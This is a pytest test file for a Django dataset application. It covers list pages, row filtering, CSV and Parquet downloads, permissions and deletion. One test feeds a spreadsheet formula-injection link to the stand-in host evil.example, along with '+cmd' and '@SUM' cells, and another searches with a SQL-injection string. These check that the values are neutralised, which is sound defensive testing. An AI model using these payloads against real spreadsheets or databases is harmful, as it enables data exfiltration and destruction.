"""The list, one dataset, its rows and downloads."""

import csv
import io

import pyarrow.parquet as pq
import pytest
from asgiref.sync import async_to_sync
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from apps.core.storage import storage
from apps.datasets import services
from apps.datasets.models import Dataset, Import
from apps.datasets.rows import DataRows
from tests.apps.datasets.conftest import tickets

pytestmark = [pytest.mark.django_db, pytest.mark.once]


def _body(response) -> bytes:
    assert "attachment" in response["Content-Disposition"]

    async def collected() -> bytes:
        return b"".join([chunk async for chunk in response])

    return async_to_sync(collected)()


def test_an_empty_list_teaches(client_for, viewer, editor) -> None:
    html = client_for(viewer).get(reverse("datasets:list")).content.decode()
    assert "Upload your first dataset" in html
    assert reverse("datasets:new") not in html and "Try an example" not in html
    html = client_for(editor).get(reverse("datasets:list")).content.decode()
    assert reverse("datasets:new") in html and "Try an example" in html


def test_the_list_costs_the_same_number_of_queries_however_long(
    client_for, owner, frozen, upload, django_assert_max_num_queries
) -> None:
    client = client_for(owner)
    for index in range(5):
        upload(tickets(), f"{index}.csv")
    with django_assert_max_num_queries(14):
        response = client.get(reverse("datasets:list"))
    for index in range(15):
        upload(tickets(), f"more{index}.csv")
    with django_assert_max_num_queries(14):
        response = client.get(reverse("datasets:list"))
    assert len(response.context["list"].page) == 21


def test_the_list_says_what_waits_for_whom(client_for, owner, parsed) -> None:
    assert "Columns to confirm" in client_for(owner).get(reverse("datasets:list")).content.decode()


def test_the_page_of_a_version_costs_a_bounded_number_of_queries(
    client_for, owner, frozen, django_assert_max_num_queries
) -> None:
    client = client_for(owner)
    with django_assert_max_num_queries(20):
        html = client.get(frozen.get_absolute_url()).content.decode()
    assert html.count("<tr>") >= 25
    assert "Page 1 of 3" in html


def test_rows_can_be_filtered_and_searched(client_for, owner, frozen) -> None:
    client = client_for(owner)
    response = client.get(frozen.get_absolute_url(), {"version": 1, "q": "ROUTER NUMBER 5 DOES"})
    assert [row.target for row in response.context["page"]] == ["connection"]
    response = client.get(frozen.get_absolute_url(), {"version": 1, "split": "test"})
    assert {row.split for row in response.context["page"]} == {"test"}
    assert response.context["page"].paginator.count == frozen.rows_test
    nothing = client.get(frozen.get_absolute_url(), {"version": 1, "q": "'; DROP TABLE x; --"})
    assert "No row matches this search" in nothing.content.decode()


def test_every_row_is_on_exactly_one_page(frozen) -> None:
    rows = DataRows(frozen)
    seen = [row.row_id for start in range(0, rows.count(), 25) for row in rows[start : start + 25]]
    assert len(seen) == len(set(seen)) == 60


def test_htmx_gets_only_the_rows(client_for, owner, frozen) -> None:
    response = client_for(owner).get(frozen.get_absolute_url(), headers={"HX-Request": "true"})
    html = response.content.decode()
    assert html.strip().startswith('<div class="card" id="rows">')
    assert "HX-Request" in response["Vary"]


def test_a_page_number_or_version_that_makes_no_sense(client_for, owner, frozen) -> None:
    client = client_for(owner)
    for strange in ("&page=banana&split=x", "&page=99999999999999999999", "&q=%00", "&q=%25_%ED%A0%80"):
        assert client.get(frozen.get_absolute_url() + strange).status_code == 200, strange
    page = reverse("datasets:detail", args=[frozen.dataset_id])
    assert client.get(page, {"version": "99"}).status_code == 404
    assert client.get(page, {"version": "-1"}).status_code == 404


def test_kept_rows_download_as_csv_and_parquet(client_for, owner, frozen) -> None:
    client = client_for(owner)
    rows = list(
        csv.DictReader(
            io.StringIO(
                _body(client.get(reverse("datasets:version_file", args=[frozen.pk, "kept.csv"]))).decode(
                    "utf-8-sig"
                )
            )
        )
    )
    assert len(rows) == 60
    assert rows[0]["prompt"] == "My invoice number 0 does not work, please help"
    assert rows[0]["target"] == "billing"
    response = client.get(reverse("datasets:version_file", args=[frozen.pk, "kept.parquet"]))
    content = _body(response)
    assert len(content) == int(response["Content-Length"])
    assert pq.read_table(io.BytesIO(content)).num_rows == 60


def test_what_looks_like_a_formula_is_none_in_what_a_spreadsheet_opens(
    upload, run_job, owner, client_for
) -> None:
    link = '=HYPERLINK(""http://evil.example/?""&A1)'
    import_ = upload(
        tickets() + f'\n"{link}","billing"\n"-5","billing"\n"+cmd","billing"\n"@SUM(1)",\n'.encode()
    )
    run_job(import_.job)
    import_.refresh_from_db()
    version = services.confirm_import(
        actor=owner, import_=import_, task_type="classification", roles={"text": "input", "label": "label"}
    )
    run_job(version.job)
    client = client_for(owner)

    def cells(name: str) -> set[str]:
        text = _body(client.get(reverse("datasets:version_file", args=[version.pk, name]))).decode(
            "utf-8-sig"
        )
        return {cell for row in csv.reader(io.StringIO(text)) for cell in row}

    kept, rejected = cells("kept.csv"), cells("rejected.csv")
    assert {'\'=HYPERLINK("http://evil.example/?"&A1)', "-5", "'+cmd"} <= kept
    assert not any(cell.startswith(("=", "+", "@")) for cell in kept | rejected)
    parquet = _body(client.get(reverse("datasets:version_file", args=[version.pk, "kept.parquet"])))
    prompts = pq.read_table(io.BytesIO(parquet))["prompt"].to_pylist()
    assert "+cmd" in [prompt[0]["content"] for prompt in prompts]


def test_rejected_rows_are_shown_and_downloaded_with_line_and_reason(
    upload, run_job, owner, client_for
) -> None:
    import_ = upload(tickets() + b'\n"no label at all",\n"one","two","three","four"\n')
    run_job(import_.job)
    import_.refresh_from_db()
    version = services.confirm_import(
        actor=owner, import_=import_, task_type="classification", roles={"text": "input", "label": "label"}
    )
    run_job(version.job)
    version.refresh_from_db()
    client = client_for(owner)
    assert version.rows + version.frozen.rejected == 62
    response = client.get(version.get_absolute_url(), {"version": 1, "rows": "rejected"})
    assert [row.line for row in response.context["page"]] == [62, 63]
    text = _body(client.get(reverse("datasets:version_file", args=[version.pk, "rejected.csv"]))).decode(
        "utf-8-sig"
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["line"] for row in rows] == ["62", "63"]
    assert all(row["reason"] for row in rows)


def test_the_source_comes_back_as_it_went_in(client_for, viewer, frozen) -> None:
    response = client_for(viewer).get(reverse("datasets:source", args=[frozen.source_id]))
    assert _body(response) == tickets()
    assert 'filename="tickets.csv"' in response["Content-Disposition"]


def test_an_outsider_finds_nothing(client_for, outsider, frozen) -> None:
    client = client_for(outsider)
    for name, pk in [
        ("detail", frozen.dataset_id),
        ("edit", frozen.dataset_id),
    ]:
        assert client.get(reverse(f"datasets:{name}", args=[pk])).status_code == 404, name
    for name in ("delete", "archive"):
        assert client.post(reverse(f"datasets:{name}", args=[frozen.dataset_id])).status_code == 404, name
    assert frozen.dataset.name not in client.get(reverse("datasets:list")).content.decode()


def test_a_visitor_is_asked_to_sign_in(client_for, frozen) -> None:
    response = client_for().get(frozen.get_absolute_url())
    assert response.status_code == 302
    assert "login" in response["Location"]


def test_renaming(client_for, editor, frozen) -> None:
    client = client_for(editor)
    page = reverse("datasets:edit", args=[frozen.dataset_id])
    assert client.post(page, {"name": " "}).status_code == 422
    assert client.post(page, {"name": "Tickets of 2026", "description": "From the desk"}).status_code == 302
    dataset = Dataset.objects.get()
    assert (dataset.name, dataset.description) == ("Tickets of 2026", "From the desk")


def test_archiving_hides_and_brings_back(client_for, editor, frozen) -> None:
    client = client_for(editor)
    page = reverse("datasets:archive", args=[frozen.dataset_id])
    client.post(page, {"archived": "1"})
    assert not Dataset.objects.current().exists()
    assert frozen.dataset.name in client.get(reverse("datasets:list"), {"archived": "1"}).content.decode()
    client.post(page, {"archived": "0"})
    assert Dataset.objects.current().exists()


def test_a_viewer_changes_nothing(client_for, viewer, frozen) -> None:
    client = client_for(viewer)
    for name in ("edit", "archive", "delete"):
        assert (
            client.post(reverse(f"datasets:{name}", args=[frozen.dataset_id]), {"name": "x"}).status_code
            == 403
        )
    assert "Delete" not in client.get(frozen.get_absolute_url()).content.decode()


def test_an_editor_deletes_their_own_datasets_only(client_for, editor, frozen) -> None:
    assert client_for(editor).post(reverse("datasets:delete", args=[frozen.dataset_id])).status_code == 403
    assert Dataset.objects.exists()


def test_deleting_frees_the_disk(client_for, owner, frozen, django_capture_on_commit_callbacks) -> None:
    keys = [frozen.storage_key, frozen.source.rows_key, frozen.source.source_key]
    assert all(storage().exists(key) for key in keys)
    with django_capture_on_commit_callbacks(execute=True):
        response = client_for(owner).post(reverse("datasets:delete", args=[frozen.dataset_id]))
    assert response["Location"] == reverse("datasets:list")
    assert not any(storage().exists(key) for key in keys)
    assert not Dataset.objects.exists()


def test_deleting_waits_for_an_evaluation_that_needs_the_rows(client_for, owner, frozen, workspace) -> None:
    from apps.evaluation.models import Evaluation
    from apps.jobs.models import Job

    job = Job.objects.create(workspace=workspace, kind="evaluation", title="e", queue="gpu", spec={})
    Evaluation.objects.create(workspace=workspace, number=1, dataset_version=frozen, storage_key="e", job=job)
    response = client_for(owner).post(reverse("datasets:delete", args=[frozen.dataset_id]), follow=True)
    assert "A job is using this data" in response.content.decode()
    assert storage().exists(frozen.storage_key)
    assert Dataset.objects.exists()


def test_deleting_waits_for_a_worker_that_is_at_it(upload, client_for, owner) -> None:
    from apps.jobs.services import claim

    import_ = upload(tickets())
    claim(job_id=str(import_.job_id), worker="w")
    response = client_for(owner).post(reverse("datasets:delete", args=[import_.dataset_id]), follow=True)
    assert "A job is using this data" in response.content.decode()
    assert Dataset.objects.exists()


def test_admin_shows_and_changes_nothing(client_for, owner, frozen) -> None:
    client = client_for(owner)
    for model, pk in [
        ("dataset", frozen.dataset_id),
        ("import", frozen.source_id),
        ("datasetversion", frozen.pk),
    ]:
        listing = reverse(f"admin:datasets_{model}_changelist")
        assert client.get(listing, {"q": "tickets"}).status_code == 200
        assert client.get(reverse(f"admin:datasets_{model}_change", args=[pk])).status_code == 200
        assert (
            client.post(reverse(f"admin:datasets_{model}_delete", args=[pk]), {"post": "yes"}).status_code
            == 403
        )


@pytest.mark.django_db(transaction=True)
def test_the_page_of_an_import_says_how_many_rejected_rows_it_shows(client_for, owner, run_job) -> None:
    good = "".join(f"The invoice number {n} is wrong,billing\n" for n in range(40))
    bad = "too,many,fields,here\n" * 25
    client = client_for(owner)
    file = SimpleUploadedFile("tickets.csv", f"text,label\n{good}{bad}".encode())
    address = client.post(reverse("datasets:new"), {"file": file, "name": "Tickets"})["Location"]
    run_job(Import.objects.get().job)
    html = client.get(address).content.decode()
    assert "25 rows could not be read" in html
    assert "The first 20 of 25 rows." in html
